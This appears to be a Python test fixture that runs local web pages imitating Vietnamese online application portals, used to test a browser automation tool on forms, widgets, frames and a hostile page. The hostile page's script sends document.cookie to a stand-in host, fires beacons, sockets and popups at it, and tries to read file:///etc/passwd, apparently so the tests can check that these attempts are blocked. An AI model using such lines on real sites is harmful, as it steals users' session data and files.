# ruff: noqa: E501
"""Small local portals for the browser's tests: plain, controlled, in frames, hostile."""

from __future__ import annotations

import email.parser
import email.policy
import hashlib
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

WARDS = {"25": ["Phường Việt Trì", "Xã Đồng Lương"], "19": ["Phường Tích Lương"]}

PLAIN = """<!doctype html><meta charset=utf-8><title>Nộp hồ sơ</title>
<h1>Bước 1: Thông tin người nộp</h1>
<form action=/buoc-2 method=post>
<table>
 <tr><th>Họ và tên <span>(*)</span>:</th><td><input name=hoTen></td>
     <th>Số định danh</th><td><input name=cccd></td></tr>
 <tr><td>Ngày sinh</td><td><input name=ngaySinh placeholder="dd/mm/yyyy"></td>
     <td>Ngày cấp</td><td><input name=ngayCap type=date></td></tr>
</table>
<fieldset><legend>Giới tính</legend>
 <label><input type=radio name=gt value=M> Nam</label> <label><input type=radio name=gt value=F> Nữ</label>
</fieldset>
<div><label for=dt>Dân tộc</label><select id=dt name=dt><option value="">-- Chọn --</option>
 <option value=01>Kinh</option><option value=02>Tày</option></select></div>
<div><p>Tỉnh/Thành phố</p><select name=tinh id=tinh><option value="">-- Chọn --</option>
 <option value=25>Tỉnh Phú Thọ</option><option value=19>Tỉnh Thái Nguyên</option></select></div>
<div><p>Xã/Phường</p><select name=xa id=xa disabled><option value="">-- Chọn --</option></select></div>
<h3>Người mẹ</h3><div><span>Họ tên</span> <input name=me></div>
<h3>Người cha</h3><div><span>Họ tên</span> <input name=cha></div>
<label><input type=checkbox name=nhan value=1> Nhận kết quả qua bưu chính</label>
<label><input type=checkbox name=camdoan value=1> Tôi cam đoan lời khai là đúng</label>
<input name=matkhau type=password placeholder="Mật khẩu">
<input name=otp placeholder="Mã OTP">
<button>Tiếp tục</button></form>
<script>
 tinh.onchange = async () => {
  xa.disabled = true; xa.length = 1;
  await new Promise(r => setTimeout(r, 300));
  for (const name of await (await fetch('/xa?t=' + tinh.value)).json()) xa.add(new Option(name, name));
  xa.disabled = false;
 };
</script>"""

FILES = """<!doctype html><meta charset=utf-8><h1>Bước 2: Thành phần hồ sơ</h1>
<form action=/gui method=post enctype=multipart/form-data>
<div style="padding:8px"><label>Giấy chứng sinh <input type=file name=gcs id=gcs accept=".pdf"></label></div>
<div style="padding:8px">Giấy tờ khác <input type=file name=khac id=khac multiple></div>
<div style="padding:8px"><button type=button id=la>Tệp lạ</button></div>
<label><input type=checkbox required> Tôi cam đoan</label>
<button id=nop>Nộp hồ sơ</button></form>
<script>la.onclick = () => { const i = document.createElement('input'); i.type = 'file'; i.click(); }</script>"""

DONE = """<!doctype html><meta charset=utf-8><h1>Nộp hồ sơ thành công</h1>
<p>Số hồ sơ: <b id=so>000.17.22.H44-261124-0007</b></p>"""

CONTROLLED = """<!doctype html><meta charset=utf-8><h1>Tờ khai điện tử</h1><div id=root></div><script>
// As React does it: the node's own property remembers what was written by code, an event with an
// unchanged value is ignored, and every turn writes the state back into the field.
const state = {ten: '', gioi: '', tinh: '', nhan: false, lan: 0};
const track = (el, prop) => {
  const base = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(el), prop);
  let known = '' + el[prop];
  Object.defineProperty(el, prop, {configurable: true, get() { return base.get.call(this); },
    set(v) { known = '' + v; base.set.call(this, v); }});
  return () => { const now = '' + base.get.call(el); if (now === known) return false; known = now; return true; };
};
const field = (el, prop, name, event) => {
  const changed = track(el, prop);
  el.addEventListener(event, () => { if (changed()) { state[name] = el[prop]; state.lan++; } });
  setInterval(() => { el[prop] = state[name]; }, 15);
  return el;
};
const make = (html) => { const t = document.createElement('template'); t.innerHTML = html; return t.content.firstChild; };
setTimeout(() => {
  const box = make('<div class="form-item"><div class="form-label">Họ và tên</div><div><input></div></div>');
  const list = make('<div class="form-item"><label>Tỉnh <select><option value="">Chọn</option><option value=a>Phú Thọ</option></select></label></div>');
  const tick = make('<div><label><input type=checkbox> Nhận qua bưu chính</label></div>');
  field(box.querySelector('input'), 'value', 'ten', 'input');
  field(list.querySelector('select'), 'value', 'tinh', 'change');
  field(tick.querySelector('input'), 'checked', 'nhan', 'click');
  root.append(box, list, tick);
}, 250);
</script>"""

WIDGETS = """<!doctype html><meta charset=utf-8><h1>Ô tự vẽ</h1>
<div><label id=lb>Quan hệ</label><div id=cb role=combobox tabindex=0 aria-labelledby=lb aria-controls=lst>Chọn</div></div>
<div><label for=ta>Nơi đăng ký</label><input id=ta autocomplete=off><ul class=suggest id=sg></ul></div>
<div><span>Ghi chú</span><div id=gc contenteditable=true></div></div>
<cn-box></cn-box>
<script>
 cb.addEventListener('mousedown', () => {
  const l = document.createElement('ul'); l.id = 'lst'; l.setAttribute('role', 'listbox');
  for (const t of ['Cha', 'Mẹ', 'Người giám hộ']) {
   const o = document.createElement('li'); o.setAttribute('role', 'option'); o.textContent = t;
   o.addEventListener('click', () => { cb.textContent = t; window.quanHe = t; l.remove(); }); l.append(o);
  }
  document.body.append(l);
 });
 ta.addEventListener('input', () => { sg.innerHTML = ''; const v = ta.value; if (!v) return;
  setTimeout(() => { for (const t of ['UBND phường Việt Trì', 'UBND xã Đồng Lương'])
   if (t.toLowerCase().includes(v.toLowerCase().slice(0, 4))) {
    const o = document.createElement('li'); o.textContent = t;
    o.onclick = () => { ta.value = t; window.noi = t; sg.innerHTML = ''; }; sg.append(o); } }, 200); });
 customElements.define('cn-box', class extends HTMLElement { constructor() { super();
  this.attachShadow({mode: 'open'}).innerHTML = '<label for=q>Số điện thoại</label><input id=q>'; } });
</script>"""

HOSTILE = """<!doctype html><meta charset=utf-8><h1>Trang xấu</h1><input name=hoTen>
<script>
 window.seen = [typeof cungnop, typeof qt, typeof RTCPeerConnection].join();
 fetch('http://OTHER/steal?' + document.cookie).catch(() => {});
 new Image().src = 'http://OTHER/pixel';
 navigator.sendBeacon && navigator.sendBeacon('http://OTHER/beacon', 'x');
 try { new WebSocket('ws://OTHER/ws'); } catch (e) {}
 window.open('http://OTHER/popup');
 const f = document.createElement('iframe'); f.src = 'http://OTHER/frame'; document.body.append(f);
 navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => {});
 fetch('file:///etc/passwd').then(() => { window.file = 1; }).catch(() => {});
 localStorage.setItem('canary', 'CANARY-STORAGE'); document.cookie = 'c=CANARY-COOKIE; max-age=99999';
 indexedDB.open('CANARY-DB', 1).onupgradeneeded = (e) => e.target.result.createObjectStore('s').put('CANARY-IDB', 1);
 caches && caches.open('c').then((c) => c.put('/x', new Response('CANARY-CACHE')));
</script>"""

TABLES = """<!doctype html><meta charset=utf-8><h1>Bảng</h1>
<table><thead><tr><th>Họ tên con</th><th>Năm sinh</th></tr></thead>
<tbody><tr><td><input name=con></td><td><input name=nam></td></tr></tbody></table>
<div><div><span>Từ ngày</span><span>Đến ngày</span></div><div><input name=tu><input name=den></div></div>
<div>Ngày cấp: <input name=d><input name=m><input name=y></div>
<div class=row><label>Số nhà</label><div><input name=nha></div><label>Tổ dân phố</label><div><input name=to></div></div>
<dl><dt>Email</dt><dd><input name=em></dd><dt>Fax</dt><dd><input name=fax></dd></dl>
<p>Ghi chú chung</p><div><label for=k>Khác</label><input id=k name=k></div>"""

OUTER = """<!doctype html><meta charset=utf-8><h1>Cổng có khung</h1>
<iframe src="http://INNER/khung" width=600 height=300></iframe>"""
INNER = """<!doctype html><meta charset=utf-8><h2>Thông tin trong khung</h2>
<form><label>Họ và tên <input name=hoTen></label><input type=file name=gcs></form>"""

PAGES = {
    "/buoc-1": PLAIN,
    "/buoc-2": FILES,
    "/gui": DONE,
    "/spa": CONTROLLED,
    "/widgets": WIDGETS,
    "/tables": TABLES,
    "/hostile": HOSTILE,
    "/outer": OUTER,
    "/khung": INNER,
    "/login": "<!doctype html><meta charset=utf-8><h1>Đăng nhập</h1><input type=password id=p>"
    "<button onclick=\"p.type='text'\" id=show>Hiện</button><input id=ma autocomplete=one-time-code>",
    "/opener": "<!doctype html><meta charset=utf-8><h1>Mở cửa sổ</h1>"
    "<a id=a href=/buoc-2 target=_blank style='display:block;height:60px'>Thanh toán</a>"
    "<a id=b href='http://OTHER/x' target=_blank style='display:block;height:60px'>Lạ</a>",
    "/sw.js": "self.onfetch = () => {};",
    "/other": "<!doctype html><meta charset=utf-8><h1>Trang khác</h1>",
    "/state": "<!doctype html><meta charset=utf-8><h1>Bộ nhớ</h1><script>document.body.dataset.all ="
    " [document.cookie, localStorage.canary].join('|')</script>",
}


class Site(ThreadingHTTPServer):
    """One host; remembers what was asked of it and the digests of what was uploaded."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.asked: list[str] = []
        self.forms: list[dict[str, list[str]]] = []
        self.uploads: dict[str, tuple[str, str, int]] = {}
        self.pages = dict(PAGES)
        self.moved: dict[str, str] = {}

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.server_port}"

    @property
    def url(self) -> str:
        return f"http://{self.host}"

    def swap(self, word: str, host: str) -> None:
        self.pages = {path: text.replace(word, host) for path, text in self.pages.items()}


class Handler(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        path = urlsplit(self.path)
        self.server.asked.append(self.path)
        if path.path in self.server.moved:
            self.send_response(302)
            self.send_header("Location", self.server.moved[path.path])
            self.end_headers()
        elif path.path == "/xa":
            self._send(json.dumps(WARDS.get(parse_qs(path.query).get("t", [""])[0], [])), "json")
        elif path.path == "/tai":
            self._send("%PDF-1.7 CANARY-DOWNLOAD", "pdf")
        else:
            self._page(path.path)

    def do_POST(self) -> None:
        self.server.asked.append(self.path)
        body = self.rfile.read(int(self.headers["Content-Length"]))
        kind = self.headers.get("Content-Type", "")
        if kind.startswith("multipart/"):
            parser = email.parser.BytesParser(policy=email.policy.HTTP)
            message = parser.parsebytes(f"Content-Type: {kind}\r\n\r\n".encode() + body)
            for part in message.iter_parts():
                data = part.get_payload(decode=True)
                name = part.get_param("name", header="content-disposition")
                if part.get_filename():
                    self.server.uploads[name] = (
                        part.get_filename(),
                        hashlib.sha256(data).hexdigest(),
                        len(data),
                    )
        else:
            self.server.forms.append(parse_qs(body.decode(), keep_blank_values=True))
        self._page(urlsplit(self.path).path)

    def _page(self, path: str) -> None:
        text = self.server.pages.get(path)
        if text is None:
            self.send_error(404)
            return
        self._send(text, "javascript" if path.endswith(".js") else "html")

    def _send(self, text: str, kind: str) -> None:
        data = text.encode()
        types = {"html": "text/html", "json": "application/json", "pdf": "application/pdf"}
        self.send_response(200)
        self.send_header("Content-Type", types.get(kind, "text/javascript"))
        if kind == "pdf":
            self.send_header("Content-Disposition", "attachment; filename=bien-nhan.pdf")
        self.send_header("Cache-Control", "max-age=9999")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_args: object) -> None:
        pass


@contextmanager
def site() -> Iterator[Site]:
    with Site() as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.02,))
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()
